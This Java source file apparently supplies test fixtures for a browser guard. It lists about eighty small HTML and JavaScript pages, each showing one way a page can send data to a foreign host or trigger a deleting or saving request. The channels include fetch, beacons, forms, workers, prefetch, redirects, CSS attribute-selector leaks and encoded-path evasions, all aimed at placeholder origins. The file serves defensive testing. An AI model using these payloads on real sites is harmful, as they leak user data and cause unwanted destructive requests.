package dk.cifercheck.browser.guard;

import java.util.List;

/**
 * One way in which a page can write or send data away.
 *
 * @param name what it does
 * @param html body of the page that does it; OWN and FOREIGN stand for origins
 * @param policy the page's content security policy; empty for none
 */
record Attack(String name, String html, String policy) {
  private static Attack of(String name, String html) {
    return new Attack(name, html, "");
  }

  private static Attack script(String name, String script) {
    return of(name, "<script>" + script + "</script>");
  }

  private static String form(String attributes) {
    return "<form id=f method=post " + attributes + "><input name=a value=1></form>";
  }

  private static Attack submit(String name, String attributes) {
    return of(name, form(attributes) + "<script>f.submit()</script>");
  }

  static List<Attack> all() {
    return List.of(
        submit("form posts in the same frame", "action='OWN/harm/save'"),
        submit("form posts to a new window", "action='OWN/harm/save' target=_blank"),
        of(
            "form posts into an iframe",
            "<iframe name=i></iframe>"
                + form("action='OWN/harm/save' target=i")
                + "<script>f.submit()</script>"),
        of(
            "button submits with requestSubmit",
            form("action='OWN/harm/delete.do'") + "<script>f.requestSubmit()</script>"),
        of(
            "form gets a deleting address",
            "<form id=f action='OWN/harm/deleteAll'><input name=a></form><script>f.submit()</script>"),
        submit("form posts multipart", "action='OWN/harm/upload' enctype='multipart/form-data'"),
        submit("form posts to a foreign host", "action='FOREIGN/query'"),
        script(
            "window.open and a post in it",
            "let w=window.open('about:blank');"
                + "w&&w.document.write(\"<form id=f method=post action='OWN/harm/save'></form>"
                + "<scr\"+\"ipt>f.submit()</scr\"+\"ipt>\")"),
        script("window.open to a foreign host", "window.open('FOREIGN/leak')"),
        script("window.open to a deleting address", "window.open('OWN/harm/deleteX')"),
        script(
            "pop-up closed, then a post",
            "let w=window.open('OWN/other');setTimeout(()=>{w&&w.close();"
                + "fetch('OWN/harm/save',{method:'POST'})},150)"),
        script("fetch posts", "fetch('OWN/harm/save',{method:'POST',body:'a=1'})"),
        script("fetch deletes", "fetch('OWN/harm/5',{method:'DELETE'})"),
        script("fetch puts on a reading address", "fetch('OWN/harm/query',{method:'PUT'})"),
        script(
            "fetch with custom header to a foreign host",
            "fetch('FOREIGN/leak',{method:'POST',headers:{'x-a':'1'}})"),
        script("fetch leaks without cors", "fetch('FOREIGN/leak?d=1',{mode:'no-cors'})"),
        script(
            "XMLHttpRequest posts",
            "let x=new XMLHttpRequest();x.open('POST','OWN/harm/update');x.send('a')"),
        script(
            "synchronous XMLHttpRequest posts",
            "let x=new XMLHttpRequest();x.open('POST','OWN/harm/update',false);"
                + "try{x.send('a')}catch(e){}"),
        script("beacon posts", "navigator.sendBeacon('OWN/harm/query','a')"),
        script("beacon to a foreign host", "navigator.sendBeacon('FOREIGN/leak','a')"),
        of("image gets a deleting address", "<img src='OWN/harm/deleteX?id=1'>"),
        of("image of a foreign host", "<img src='FOREIGN/pixel.png?d=1'>"),
        script("image object of a foreign host", "new Image().src='FOREIGN/pixel.gif'"),
        of(
            "link ping",
            "<a id=a href='#x' ping='OWN/harm/query FOREIGN/ping'>x</a><script>a.click()</script>"),
        script("web socket to the portal", "new WebSocket('OWN/harm/query'.replace('http','ws'))"),
        script("web socket to a foreign host", "new WebSocket('FOREIGN/ws'.replace('http','ws'))"),
        script("event source of a foreign host", "new EventSource('FOREIGN/events')"),
        script("shared worker posts", "new SharedWorker('OWN/shared.js')"),
        script("dedicated worker posts", "new Worker('OWN/dedicated.js')"),
        script("service worker posts", "navigator.serviceWorker.register('OWN/service.js')"),
        script(
            "worker from a blob posts",
            "new Worker(URL.createObjectURL(new Blob([\"fetch('OWN/harm/save',{method:'POST'})\"])))"),
        of("prefetch of a deleting address", "<link rel=prefetch href='OWN/harm/deleteX'>"),
        of("prefetch of a foreign host", "<link rel=prefetch href='FOREIGN/next'>"),
        of("preload of a foreign host", "<link rel=preload as=script href='FOREIGN/x.js'>"),
        of("module preload of a foreign host", "<link rel=modulepreload href='FOREIGN/m.js'>"),
        of(
            "speculation rules prefetch",
            "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"OWN/harm/deleteX\","
                + "\"FOREIGN/next\"],\"eagerness\":\"immediate\"}]}</script>"),
        of(
            "speculation rules prerender",
            "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"OWN/harm/deleteY\"],"
                + "\"eagerness\":\"immediate\"}]}</script>"),
        new Attack(
            "policy report",
            "<script>eval('1')</script><img src='data:image/png;base64,AA'>",
            "script-src 'unsafe-inline'; img-src 'none'; report-uri OWN/harm/query FOREIGN/report"),
        of("redirect 302 to a deleting address", "<img src='OWN/redirect/302?OWN/harm/deleteX'>"),
        of("redirect 302 to a foreign host", "<img src='OWN/redirect/302?FOREIGN/leak'>"),
        script("page moves to a redirect", "location='OWN/redirect/302?OWN/harm/deleteX'"),
        script("page moves to a foreign redirect", "location='OWN/redirect/302?FOREIGN/leak'"),
        submit("login post redirected with 307", "action='OWN/redirect/307/login?OWN/harm/save'"),
        script(
            "query post redirected with 307",
            "fetch('OWN/redirect/307/query?OWN/harm/save',{method:'POST',body:'a'})"),
        script(
            "query post redirected with 308 abroad",
            "fetch('OWN/redirect/308/query?FOREIGN/leak',{method:'POST',mode:'no-cors'})"),
        of(
            "download link",
            "<a id=a download href='OWN/harm/deleteX'>x</a><script>a.click()</script>"),
        of(
            "download link abroad",
            "<a id=a download href='FOREIGN/file.zip'>x</a><script>a.click()</script>"),
        script(
            "keepalive fetch while the page goes",
            "addEventListener('pagehide',()=>fetch('OWN/harm/save',"
                + "{method:'POST',keepalive:true}));location='OWN/other'"),
        script(
            "beacon while the page goes",
            "addEventListener('pagehide',()=>navigator.sendBeacon('FOREIGN/leak','a'));"
                + "location='OWN/other'"),
        script("fetchLater", "try{fetchLater('FOREIGN/leak',{activateAfter:0})}catch(e){}"),
        of("refresh to a foreign host", "<meta http-equiv=refresh content='0;url=FOREIGN/leak'>"),
        of(
            "refresh to a deleting address",
            "<meta http-equiv=refresh content='0;url=OWN/harm/delete'>"),
        of("style sheet abroad", "<link rel=stylesheet href='FOREIGN/a.css'>"),
        of("style with a foreign image", "<p style=\"background:url('FOREIGN/bg.png')\">x"),
        of(
            "foreign font",
            "<style>@font-face{font-family:q;src:url('FOREIGN/f.woff2')}p{font-family:q}</style><p>x"),
        of("style import abroad", "<style>@import url('FOREIGN/i.css');</style>"),
        of("foreign script", "<script src='FOREIGN/s.js'></script>"),
        of("foreign frame", "<iframe src='FOREIGN/frame'></iframe>"),
        of("frame with a deleting address", "<iframe src='OWN/harm/deleteX'></iframe>"),
        of(
            "frame without origin posts",
            "<iframe sandbox='allow-scripts allow-forms' srcdoc=\"<form id=f method=post "
                + "action='OWN/harm/save'></form><script>f.submit()</script>\"></iframe>"),
        of("object abroad", "<object data='FOREIGN/o.pdf'></object>"),
        of("embed with a deleting address", "<embed src='OWN/harm/deleteX'>"),
        of("video abroad", "<video src='FOREIGN/v.mp4' autoplay></video>"),
        of("sound with a deleting address", "<audio src='OWN/harm/deleteX' autoplay></audio>"),
        of("svg image abroad", "<svg><image href='FOREIGN/x.svg'></image></svg>"),
        script("encoded letters hide the verb", "fetch('OWN/harm/%64elete')"),
        script("dot segments hide the verb", "fetch('OWN/query/../harm/save',{method:'POST'})"),
        script("path parameters hide the verb", "fetch('OWN/harm/delete;query')"),
        script(
            "upper case and extension hide the verb",
            "fetch('OWN/harm/QUERY_DELETE.json',{method:'POST'})"),
        script("script moves to a script address", "location.href='OWN/harm/save.do?delete'"),
        script("event source of a deleting address", "new EventSource('OWN/harm/deleteX')"),
        script(
            "worker takes a script from abroad",
            "new Worker(URL.createObjectURL(new Blob([\"importScripts('FOREIGN/x.js')\"])))"),
        of(
            "button with an address of its own posts",
            "<form><button id=b formmethod=post formaction='OWN/harm/save'>x</button></form>"
                + "<script>b.click()</script>"),
        of(
            "picture button posts",
            form("action='OWN/query'")
                    .replace(
                        "</form>",
                        "<input type=image id=b formaction='OWN/harm/save' alt=x></form>")
                + "<script>b.click()</script>"),
        of(
            "form posts into a window that was opened",
            form("action='OWN/harm/save' target=w")
                + "<script>window.open('about:blank','w');f.submit()</script>"),
        of(
            "frame whose address is its text posts",
            "<iframe src=\"data:text/html,<form id=f method=post action='OWN/harm/save'></form>"
                + "<script>f.submit()</script>\"></iframe>"),
        of(
            "frame whose address is a script posts",
            "<iframe src=\"javascript:fetch('OWN/harm/save',{method:'POST'})\"></iframe>"),
        of(
            "style tells a value by its first letter",
            "<style>input[value^='1']{background:url('FOREIGN/begins-with-1')}</style>"
                + "<input value=123>"),
        of("poster of a video abroad", "<video poster='FOREIGN/p.png'></video>"),
        script("style worklet abroad", "CSS.paintWorklet.addModule('FOREIGN/p.js')"),
        script(
            "window that was opened posts by its own script",
            "let w=window.open();w&&w.eval(\"fetch('OWN/harm/save',{method:'POST'})\")"),
        script(
            "link in a new window to a foreign host",
            "let a=document.createElement('a');a.href='FOREIGN/leak?d=1';a.target='_blank';"
                + "a.click()"),
        of(
            "svg takes a part from abroad",
            "<svg><filter><feImage href='FOREIGN/f.png'/></filter></svg>"
                + "<img srcset='FOREIGN/2x.png 2x, FOREIGN/1x.png 1x'>"));
  }
}
